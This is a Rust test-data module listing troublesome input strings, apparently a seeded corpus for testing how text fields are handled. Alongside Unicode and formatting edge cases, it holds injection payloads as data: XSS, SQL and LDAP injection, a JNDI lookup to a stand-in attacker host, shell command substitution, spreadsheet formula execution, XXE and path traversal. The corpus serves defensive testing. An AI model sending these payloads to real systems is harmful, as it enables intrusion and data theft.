//! Texts that somebody has typed, pasted or aimed, one of each kind of trouble.
//!
//! All of them are legal Unicode without U+0000, so each is a value that a field may hold. What no
//! text is (half a surrogate pair, lists, numbers) stands one module up.

/// The list. Its order is part of what a seed means.
#[rustfmt::skip]
pub(super) const TEXTS: &[&str] = &[
    // Control characters: C0 with DEL, C1, terminal codes.
    "bell\u{7} back\u{8} tab\tvt\u{b} ff\u{c} us\u{1f} del\u{7f}",
    "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{e}\u{f}\u{10}\u{1a}\u{1c}\u{1d}\u{1e}",
    "\u{1b}[31mred\u{1b}[0m\u{1b}[2J", "\u{1b}]0;owned\u{7}\u{1b}]8;;http://evil.example.com\u{7}",
    "pad\u{80} nel\u{85} csi\u{9b}31m osc\u{9d}0;x\u{9c} apc\u{9f}",
    // Lines.
    "one\ntwo", "one\rtwo", "one\r\ntwo", "\r\nSet-Cookie: a=b\r\n\r\n<html>", "a\u{2028}b\u{2029}c",
    "2026-11-21T22:00:00Z  WARN attune: forged\n2026-11-21T22:00:01Z ERROR attune: line",
    // Spaces of all kinds, alone and around.
    " ", "\t", "\u{a0}", "\u{3000}", "\u{85}", "  padded  ", "\u{2003}em\u{2003}", "a\u{a0}b\u{202f}c\u{205f}d",
    // What is not seen: order marks, directions, joiners, tags, variation selectors.
    "\u{feff}Sales", "Sa\u{feff}les\u{feff}", "\u{202e}gpj.exe\u{202c}", "\u{202d}\u{202b}\u{202a}abc",
    "\u{2066}a\u{2067}b\u{2068}c\u{2069}", "Sa\u{200b}l\u{200c}e\u{200d}s\u{2060}\u{180e}", "\u{200b}\u{200b}",
    "\u{ad}soft\u{ad}hyphen", "\u{e0001}\u{e0041}\u{e007f}", "a\u{fe0f}\u{fe00}\u{e0100}", "\u{61c}\u{200e}\u{200f}",
    // Characters that are none, and private ones.
    "\u{fffe}\u{ffff}\u{fdd0}\u{1fffe}\u{10ffff}", "\u{fffd}", "\u{e000}\u{f8ff}\u{f0000}\u{10fffd}",
    // Marks upon marks.
    "Z\u{351}\u{36b}\u{343}a\u{313}\u{30d}\u{352}l\u{321}\u{35c}g\u{322}\u{489}o\u{338}\u{33f}", "\u{301}alone",
    // Emoji, joined, coloured, flags.
    "\u{1f469}\u{200d}\u{1f469}\u{200d}\u{1f467}\u{200d}\u{1f466}", "\u{1f3f3}\u{fe0f}\u{200d}\u{1f308}",
    "\u{1f44d}\u{1f3fd} \u{1f1e9}\u{1f1ea}", "\u{1f600}",
    // Pairs that are equal to some and not to others.
    "J\u{f6}rg \u{c5}", "Jo\u{308}rg A\u{30a}", "\u{212b}ngstr\u{f6}m", "\u{fb01}n \u{2167} \u{2460} \u{ff46}\u{ff55}\u{ff4c}\u{ff4c}",
    "\u{131}\u{130}iI D\u{130}YARBAKIR", "Stra\u{df}e STRASSE \u{1e9e}", "\u{39f}\u{394}\u{39f}\u{3a3} \u{3c3}\u{3c2}", "\u{149} \u{1f0} \u{390}",
    // Names in other writing.
    "\u{20000}\u{20bb7}\u{91ce}\u{5bb6} \u{2a6a5}", "\u{5f35}\u{5049}\u{660e}", "\u{645}\u{62d}\u{645}\u{62f} \u{628}\u{646}", "\u{5d1}\u{5e0}\u{5d9}\u{5de}\u{5d9}\u{5df} (Ben)",
    "\u{e2a}\u{e21}\u{e0a}\u{e32}\u{e22}", "\u{928}\u{92e}\u{938}\u{94d}\u{924}\u{947}",
    // Look-alikes and mixed scripts.
    "P\u{430}yp\u{430}l", "\u{430}dmin", "\u{251}dm\u{456}n\u{2024}root", "Ad\u{43c}inistrat\u{3bf}r",
    // Markup and scripts.
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(1)>", "\"><b onmouseover='x'>",
    "</td></tr></table><form action=//evil.example.com><input name=atl_token value=1>", "</title><textarea>", "<!-- ", "--><td>x</td>",
    "&lt;b&gt; &amp;amp; &#0; &#x1b; &#128; &notit; &nbsp;", "]]><![CDATA[", "<?xml version=\"1.0\"?><!DOCTYPE a SYSTEM \"file:///etc/passwd\">",
    "javascript:alert(1)", "data:text/html,<b>", "<td>1</td><td>2</td>",
    // Wiki markup, macros, mentions.
    "*bold* _it_ {code}x{code} {macro:a=b} !image.png! [link|http://evil.example.com]", "h1. Title\n||a||b||", "{html}<b>{html}", "{{mono}}",
    "[~accountid:5b10a2844c20165700ede21g] [~admin] @all",
    // Formulas.
    "=1+1", "+1", "-2+3", "@SUM(A1)", "=HYPERLINK(\"http://evil.example.com\")", "\t=cmd|' /C calc'!A0", "\"a\",\"b\";c",
    // What other languages would run.
    "'; DROP TABLE users; --", "\" OR \"\"=\"", "*)(uid=*))(|(uid=*", "\\2a\\00", "${jndi:ldap://evil.example.com/a}", "${env:PATH} #{7*7} {{7*7}} <%= 7 %>",
    "%s%n%x%d", "$(id) `id` ; id | id && id", "{department} {x?} }{", "$1 $& \\1 \\g<0>", "(?=x)(a+)+$[",
    // JSON and paths.
    "{\"a\":1}", "[1,2]", "\"", "\\", "\\\\u0000 \\ud800", "null", "true", "undefined", "__proto__", "constructor",
    "../../etc/passwd", "..\\..\\windows", "%00 %2e%2e%2f %0d%0a", "C:\\con", "/", "a/b?c#d%e&f=g+h;i", "file:///etc/passwd",
    // Numbers and dates as text.
    "1e400", "-0", "9007199254740993", "NaN", "-Infinity", "0x10", "1_000", "1.234,56", "\u{661}\u{662}\u{663}", "\u{ff11}\u{ff12}",
    "2026-11-21", "21.11.2026", "11/21/2026", "21/11/26", "20261121", "2026-W47-6", "Nov 21, 2026", "2026-11-21T10:00:00+14:00",
    "1795298400", "0000-00-00", "0000-01-01", "10000-01-01", "2026-02-30", "99999999999999999999-01-01",
    // Telephone numbers.
    "+49 30 CALL-ME", "1-800-FLOWERS x12", "+++", "+", "00000000000000000000", "\u{ff0b}49 30 \u{ff11}\u{ff12}", "tel:+49-30;ext=1", "+49 (0) 30 / 123 - 45 ext. 6 #7",
    // Addresses and user names.
    "a@b@c", "\"quoted local\"@example.com", "x+tag@example.com", "X.Y@EXAMPLE.com", "\u{7528}\u{6237}@\u{4f8b}\u{3048}.example", "@", "a@", "@b",
    "jane_fabrikam.example#EXT#@contoso.example", "CN=Doe\\, Jane,OU=People\\2C,DC=example", "cn=a+cn=b",
];
